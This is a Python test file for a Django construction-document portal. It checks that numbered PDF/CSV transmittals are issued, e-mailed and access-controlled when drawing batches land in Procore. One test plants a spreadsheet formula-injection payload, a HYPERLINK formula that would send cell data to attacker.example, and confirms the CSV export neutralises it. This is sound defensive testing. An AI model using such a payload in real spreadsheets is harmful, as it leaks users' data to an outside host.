"""Transmittals: issued when a batch lands (through the real submit task against the live
sandbox), numbered per project once each even when issued at once, read back (pypdf, csv),
attached to the completion e-mail, sent to the people chosen at submit; a partly landed batch
closed by the person gets one for what landed; a batch that lands later gets one then."""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC

import pytest
from django.core import mail
from django.db import connections
from django.utils import timezone
from django_q.models import OrmQ
from pypdf import PdfReader

from portal.mirror.models import Revision
from portal.mirror.sync import run_sync, start_sync
from portal.staging import services
from portal.staging.issue_control import distribution, tasks, transmittal
from portal.staging.models import Batch, StagedDocument, Submission, Transmittal
from procore_sandbox.pdm import switches as pdm_switches
from procore_sandbox.testing import JORDAN_NORTHWIND, MARTA
from tests.staging.submitting import drawing, run_task

pytestmark = pytest.mark.django_db(transaction=True)


def pdf_text(field) -> str:
    with field.open("rb") as stored:
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(stored.read())).pages)


def csv_rows(field) -> list[dict[str, str]]:
    with field.open("rb") as stored:
        return list(csv.DictReader(io.StringIO(stored.read().decode("utf-8-sig"))))


def attachments(message) -> dict[str, bytes]:
    return {
        name: content if isinstance(content, bytes) else content.encode() for name, content, _ in message.attachments
    }


def test_it_issues_a_numbered_transmittal_when_a_batch_lands_and_sends_it(
    eli_at_riverside, stage, client_for, signed_in
):
    user, project = eli_at_riverside
    # The project's people from its Procore Directory, with their e-mail addresses.
    marta = next(p for p in distribution.choices(project) if p.email == MARTA)
    batch = services.create_batch(project, user, name="Ground floor set", note="For construction, issue 3")
    first = stage(batch, *drawing(650), b"%PDF-1.4 650")
    second = stage(batch, *drawing(651, revision="B"), b"%PDF-1.4 651")
    client = client_for(user)

    answer = client.post(f"/batches/{batch.pk}/submit/", {"recipients": [marta.id, "999999"]})
    assert answer.status_code == 302 and answer["Location"] == f"/batches/{batch.pk}/progress/"
    assert [(r.name, r.email) for r in batch.recipients.all()] == [(marta.name, MARTA)]
    mail.outbox.clear()
    submission = run_task(Submission.objects.get(batch=batch))  # the queued task, run as a worker does
    assert submission.state == "done"

    made = Transmittal.objects.get(batch=batch)
    assert (made.label, made.project, made.complete, made.documents) == ("T-0001", project, True, 2)
    assert made.recipients == [{"name": marta.name, "email": MARTA}] and made.emailed_at is not None
    text = pdf_text(made.pdf)
    for expected in [
        "Transmittal",
        "T-0001",
        "Riverside Medical Center",
        "Ground floor set",
        "For construction, issue 3",
        "Eli Navarro",
        marta.name,
        "A-DRW-650",
        "Plan 650",
        "A-DRW-651",
        "Plan 651",
    ]:
        assert expected in text, expected
    rows = csv_rows(made.csv)
    first.refresh_from_db()
    second.refresh_from_db()
    assert [(r["Document number"], r["Name"], r["Revision"], r["Version"], r["Status"]) for r in rows] == [
        ("A-DRW-650", "Plan 650", "A", "1", "Open"),
        ("A-DRW-651", "Plan 651", "B", "1", "Open"),
    ]
    revision = Revision.objects.get(procore_id=first.revision_id)
    assert rows[0]["Procore link"] == revision.download_url and revision.download_url.endswith("/download")
    assert {r["Submitted by"] for r in rows} == {"Eli Navarro"} and {r["Transmittal"] for r in rows} == {"T-0001"}
    assert rows[0]["Batch"] == "Ground floor set" and rows[0]["Batch note"] == "For construction, issue 3"
    assert rows[0]["Time (UTC)"] == first.landed_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert rows[1]["SHA-256"] == second.sha256

    # The submitter's completion e-mail carries it; Marta gets her own, with both files.
    completion = next(m for m in mail.outbox if m.to == [user.email])
    assert "Transmittal T-0001 is attached" in completion.body
    assert set(attachments(completion)) == {"T-0001.pdf", "T-0001.csv"}
    (to_marta,) = [m for m in mail.outbox if m.to == [MARTA]]
    assert to_marta.subject == "Transmittal T-0001: Riverside Medical Center — Ground floor set"
    assert attachments(to_marta)["T-0001.pdf"].startswith(b"%PDF")
    assert "2 document(s) issued into Procore" in to_marta.body and "For construction, issue 3" in to_marta.body

    # Downloadable from the batch and from the project's Transmittals tab; not by outsiders.
    assert "T-0001 (PDF)" in client.get(f"/batches/{batch.pk}/progress/").content.decode()
    tab = client.get(f"/projects/{project.pk}/transmittals/").content.decode()
    assert 'data-transmittal="T-0001"' in tab and marta.name in tab
    pdf = client.get(f"/transmittals/{made.pk}.pdf")
    assert pdf.status_code == 200 and b"".join(pdf.streaming_content).startswith(b"%PDF")
    assert 'filename="T-0001.pdf"' in pdf["Content-Disposition"]
    assert client_for(None).get(f"/transmittals/{made.pk}.pdf").status_code == 404
    # A project member the batch is not shared with sees neither it nor its transmittal.
    colleague = signed_in(JORDAN_NORTHWIND)
    assert 'data-transmittal="T-0001"' not in colleague.get(f"/projects/{project.pk}/transmittals/").content.decode()
    assert colleague.get(f"/transmittals/{made.pk}.pdf").status_code == 404

    # The project's next batch gets the next number.
    later = services.create_batch(project, user, name="Roof set")
    stage(later, *drawing(652), b"%PDF-1.4 652")
    client.post(f"/batches/{later.pk}/submit/")
    run_task(Submission.objects.get(batch=later))
    assert Transmittal.objects.get(batch=later).label == "T-0002"


def landed_batch(project, user, name: str, documents: int = 1) -> Batch:
    """A batch whose documents Procore confirmed (rows as the submit leaves them)."""
    batch = Batch.objects.create(project=project, created_by=user, name=name, state=Batch.State.SUBMITTED)
    for index in range(documents):
        StagedDocument.objects.create(
            batch=batch,
            file_name=f"{name}-{index}.pdf",
            size=10,
            sha256=f"{batch.pk:032d}{index:032d}",
            mime_type="application/pdf",
            state=StagedDocument.State.SUBMITTED,
            landed_at=timezone.now(),
        )
    return batch


def test_it_numbers_transmittals_once_each_when_they_are_issued_at_once(eli_at_riverside):
    user, project = eli_at_riverside
    batches = [landed_batch(project, user, f"Set {i}") for i in range(6)]
    errors: list[BaseException] = []

    def issue(batch: Batch) -> None:
        try:
            transmittal.issue_transmittal(batch)
        except BaseException as exc:  # noqa: BLE001 (reported below)
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=issue, args=(b,)) for b in batches + batches]  # each batch twice
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not errors
    numbers = sorted(Transmittal.objects.filter(project=project).values_list("number", flat=True))
    assert numbers == [1, 2, 3, 4, 5, 6]
    assert all(Transmittal.objects.get(batch=b).pdf for b in batches)


def test_its_register_never_hands_a_spreadsheet_a_formula(eli_at_riverside):
    user, project = eli_at_riverside
    batch = landed_batch(project, user, "+Set")
    batch.note = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    batch.save(update_fields=["note"])
    StagedDocument.objects.filter(batch=batch).update(file_name="@sheet.pdf")

    made = transmittal.issue_transmittal(batch)
    (row,) = csv_rows(made.csv)
    assert row["Batch note"] == "'" + batch.note and row["Batch"] == "'+Set"
    assert row["Name"] == row["File name"] == "'@sheet.pdf"
    assert row["Transmittal"] == "T-0001" and row["SHA-256"] == batch.documents.get().sha256
    # The PDF is no spreadsheet: it shows the note as written.
    assert 'HYPERLINK("https://attacker.example/?"&A1,"Open")' in pdf_text(made.pdf)


def test_it_issues_a_transmittal_for_what_landed_when_a_partly_landed_batch_is_closed(
    eli_at_riverside, stage, issue_failed, client_for
):
    user, project = eli_at_riverside
    existing = Revision.objects.get(project=project, name="Floor Plan", revision="Rev B")
    pdm_switches.force_workflow_conflict(existing.container_id)
    batch = services.create_batch(project, user, name="Partly landed")
    stuck = stage(batch, *drawing(101, revision="C"), b"%PDF-1.4 floor plan C")
    landed = stage(batch, *drawing(655), b"%PDF-1.4 655")
    issue_failed(batch)
    stuck.refresh_from_db()
    assert stuck.failure_code == "WORKFLOW_CONFLICT" and not Transmittal.objects.filter(batch=batch).exists()
    client = client_for(user)
    assert "Close the batch and issue its transmittal" in client.get(f"/batches/{batch.pk}/progress/").content.decode()

    OrmQ.objects.all().delete()
    answer = client.post(f"/batches/{batch.pk}/close/")
    assert answer.status_code == 302
    batch.refresh_from_db()
    assert batch.state == Batch.State.CLOSED and not batch.is_editable
    (queued,) = [q.task for q in OrmQ.objects.all()]
    assert queued["func"] == "portal.staging.issue_control.tasks.make_transmittal"
    mail.outbox.clear()
    tasks.make_transmittal(*queued["args"])  # the queued task, run as a worker does

    made = Transmittal.objects.get(batch=batch)
    assert (made.complete, made.documents, made.issued_by) == (False, 1, user)
    text = pdf_text(made.pdf)
    assert "1 of 2 documents landed in Procore" in text and "A-DRW-655" in text and "A-DRW-101" not in text
    assert [r["Document number"] for r in csv_rows(made.csv)] == ["A-DRW-655"]
    assert landed.pk in set(batch.documents.filter(landed_at__isnull=False).values_list("pk", flat=True))
    (message,) = mail.outbox
    assert message.to == [user.email] and "(the part of the batch that landed)" in message.body
    assert "Closed the batch" in {e.action for e in batch.audit.all()}
    # A closed batch cannot be retried or closed again.
    assert client.post(f"/batches/{batch.pk}/retry/").status_code == 302
    assert not batch.submissions.filter(state="queued").exists()


def test_it_issues_the_transmittal_when_the_last_document_lands_later(eli_at_riverside, stage, monkeypatch):
    from portal.staging import tasks as staging_tasks
    from portal.staging.pipeline import runner
    from tests.staging.submitting import submit

    user, project = eli_at_riverside
    # Procore's search index shows the new revisions late: nothing has landed when the run ends.
    monkeypatch.setattr(runner, "confirm_landed", lambda client, batch: 0)
    batch = services.create_batch(project, user, name="Late set")
    stage(batch, *drawing(660), b"%PDF-1.4 660")
    assert run_task(submit(batch, user)).state == "done"
    assert not Transmittal.objects.filter(batch=batch).exists()

    run_sync(start_sync(project, user, full=False).pk)  # a later refresh of the mirror sees the revision
    OrmQ.objects.all().delete()
    staging_tasks.remove_confirmed_files()  # the schedule: documents the mirror shows have landed
    queued = [q.task for q in OrmQ.objects.all()]
    assert [(q["func"], q["args"][0]) for q in queued] == [
        ("portal.staging.issue_control.tasks.make_transmittal", batch.pk)
    ]
    tasks.make_transmittal(*queued[0]["args"])
    assert Transmittal.objects.get(batch=batch).documents == 1
    assert any(m.subject.startswith("Transmittal T-0001") and m.to == [user.email] for m in mail.outbox)
